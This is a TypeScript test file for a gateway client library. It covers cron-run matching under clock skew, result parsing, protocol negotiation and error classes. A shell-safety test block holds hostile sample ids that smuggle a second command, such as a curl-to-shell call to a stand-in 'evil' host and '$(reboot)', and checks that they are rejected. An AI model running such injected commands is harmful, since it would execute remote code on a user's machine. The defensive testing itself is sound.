import { describe, expect, it } from 'vitest'
import { approveCommand, classifyGatewayError, isSafeGatewayId } from './classify.js'
import { looksLikeJobId, matchCronRun } from './cron-match.js'
import { nextPageOffset, optTimeMs, parseCronJobs, parseCronRuns, parseCronStatus } from './cron-results.js'
import { ClawlinkError, shouldRetry } from './error-base.js'
import { GatewayError, ProtocolError, SignerError } from './errors.js'
import { parseHelloOk } from './hello.js'

describe('matchCronRun: "my run" on the gateway clock (docs/protocol.md §7.3)', () => {
  const gatewayNow = 1_800_000_000_000
  it.each([
    [
      'same runId',
      { jobId: 'j', runId: 'r1', runAtMs: 0 },
      { jobId: 'j', runId: 'r1', notBeforeMs: gatewayNow },
      true,
    ],
    [
      'other runId, even if later',
      { jobId: 'j', runId: 'r0', runAtMs: gatewayNow + 5 },
      { jobId: 'j', runId: 'r1' },
      false,
    ],
    ['other job', { jobId: 'k', runAtMs: gatewayNow + 5 }, { jobId: 'j', notBeforeMs: gatewayNow }, false],
    [
      '3.13: no runId, started after cron.run',
      { jobId: 'j', runAtMs: gatewayNow + 3 },
      { jobId: 'j', runId: 'r1', notBeforeMs: gatewayNow },
      true,
    ],
    [
      '3.13: within the 1 s rounding slack',
      { jobId: 'j', runAtMs: gatewayNow - 900 },
      { jobId: 'j', notBeforeMs: gatewayNow },
      true,
    ],
    [
      '3.13: an earlier run of the job',
      { jobId: 'j', runAtMs: gatewayNow - 5000 },
      { jobId: 'j', notBeforeMs: gatewayNow },
      false,
    ],
    [
      'run log entry with ts only',
      { jobId: 'j', ts: gatewayNow + 10 },
      { jobId: 'j', notBeforeMs: gatewayNow },
      true,
    ],
    ['no time at all, but one was asked for', { jobId: 'j' }, { jobId: 'j', notBeforeMs: gatewayNow }, false],
  ])('%s', (_label, candidate, ref, expected) => {
    expect(matchCronRun(candidate, ref)).toBe(expected)
  })

  it('a lagging gateway clock: its run time is far behind ours, yet it is this run', () => {
    const localSend = 1_800_000_030_000
    const skew = -30_000 // the gateway is 30 s behind: measured at the challenge
    const runAtOnGateway = localSend + skew + 4
    expect(
      matchCronRun({ jobId: 'j', runAtMs: runAtOnGateway }, { jobId: 'j', notBeforeMs: localSend + skew }),
    ).toBe(true)
    // Compared with the local clock (the old bug), the same run would never match.
    expect(
      matchCronRun({ jobId: 'j', runAtMs: runAtOnGateway }, { jobId: 'j', notBeforeMs: localSend }),
    ).toBe(false)
  })
})

describe('cron results without invention', () => {
  it('parseCronStatus leaves out what the gateway did not say (3.13 names no storage)', () => {
    expect(parseCronStatus({ enabled: true, jobs: 3, nextWakeAtMs: null, storePath: '/x' })).toMatchObject({
      enabled: true,
      jobs: 3,
      nextWakeAtMs: undefined,
      storage: undefined,
    })
    expect(parseCronStatus({})).toMatchObject({ enabled: undefined, jobs: undefined, storage: undefined })
    expect(parseCronStatus({ storage: 'sqlite', enabled: false }).storage).toBe('sqlite')
  })

  it('shows impossible dates as unknown instead of crashing a caller', () => {
    expect(optTimeMs(1e20)).toBeUndefined()
    expect(optTimeMs(-1e20)).toBeUndefined()
    expect(optTimeMs(1_800_000_000_000)).toBe(1_800_000_000_000)
    const [entry] = parseCronRuns({ entries: [{ ts: 1e20, runAtMs: -1e20, jobId: 'j' }] })
    expect(entry).toMatchObject({ ts: undefined, runAtMs: undefined })
    const [job] = parseCronJobs({ jobs: [{ id: 'a', name: 'n', state: { nextRunAtMs: 9e15 } }] })
    expect(job?.nextRunAtMs).toBeUndefined()
  })

  it('nextPageOffset follows hasMore only forward', () => {
    expect(nextPageOffset({ hasMore: true, nextOffset: 200 }, 0)).toBe(200)
    expect(nextPageOffset({ hasMore: true, nextOffset: 0 }, 200)).toBeUndefined() // a gateway going backwards
    expect(nextPageOffset({ hasMore: false, nextOffset: 400 }, 200)).toBeUndefined()
    expect(nextPageOffset({ hasMore: true }, 0)).toBeUndefined()
  })

  it('looksLikeJobId: UUIDs only', () => {
    expect(looksLikeJobId('8a1a9993-1c2d-4e5f-8a9b-0c1d2e3f4a5b')).toBe(true)
    expect(looksLikeJobId('nightly-report')).toBe(false)
    expect(looksLikeJobId('8a1a9993-1c2d-4e5f-8a9b-0c1d2e3f4a5')).toBe(false)
  })
})

describe('ids from a gateway never reach a shell command unchecked', () => {
  it.each([
    ['7c1e4a0e-3b1f-4c1a-9d5b-0a1b2c3d4e5f', true],
    ['r1"; curl evil|sh', false],
    ['$(reboot)', false],
    ['a\u001b[2Jb', false],
    ['', false],
  ])('%j → %s', (id, safe) => {
    expect(isSafeGatewayId(id)).toBe(safe)
    expect(approveCommand(id)).toBe(
      safe
        ? `openclaw devices approve ${id}`
        : 'openclaw devices list, then openclaw devices approve <requestId>',
    )
  })

  it('a pairing error with a hostile requestId carries no requestId and pastes none', () => {
    const e = classifyGatewayError({
      code: 'NOT_PAIRED',
      message: 'pairing required',
      details: { code: 'PAIRING_REQUIRED', requestId: 'r1"; curl evil|sh', reason: 'not-paired' },
    })
    expect(e.requestId).toBeUndefined()
    expect(e.remedy).not.toContain('curl')
  })
})

describe('hello-ok must pick a protocol we offered (docs/protocol.md §2.4)', () => {
  it('refuses 99, accepts 3 and 4', () => {
    const hello = (protocol: number) => ({ type: 'hello-ok', protocol })
    expect(() => parseHelloOk(hello(99), { min: 3, max: 4 })).toThrowError(
      expect.objectContaining({ code: 'INVALID_HELLO' }),
    )
    expect(parseHelloOk(hello(3), { min: 3, max: 4 }).protocol).toBe(3)
    expect(parseHelloOk(hello(4), { min: 3, max: 4 }).protocol).toBe(4)
  })
})

describe('one error base: code, remedy, shouldRetry()', () => {
  it('every error class extends ClawlinkError with a remedy', () => {
    const errors = [
      new ProtocolError('FRAME_NOT_JSON', 'x'),
      new SignerError('SIGNER_TIMEOUT', 'x'),
      new SignerError('KEY_NOT_FOUND', 'x'),
      classifyGatewayError({
        code: 'UNAVAILABLE',
        message: 'gateway starting; retry shortly',
        retryAfterMs: 500,
      }),
      classifyGatewayError({
        code: 'NOT_PAIRED',
        message: 'pairing required',
        details: { code: 'PAIRING_REQUIRED' },
      }),
    ]
    for (const e of errors) {
      expect(e).toBeInstanceOf(ClawlinkError)
      expect(e.remedy.length).toBeGreaterThan(5)
    }
    expect(errors.map((e) => e.shouldRetry())).toEqual([false, true, false, true, false])
    expect(errors.map(shouldRetry)).toEqual([false, true, false, true, false])
    expect(shouldRetry(new Error('plain'))).toBe(false)
    expect(errors[3]).toBeInstanceOf(GatewayError)
  })
})
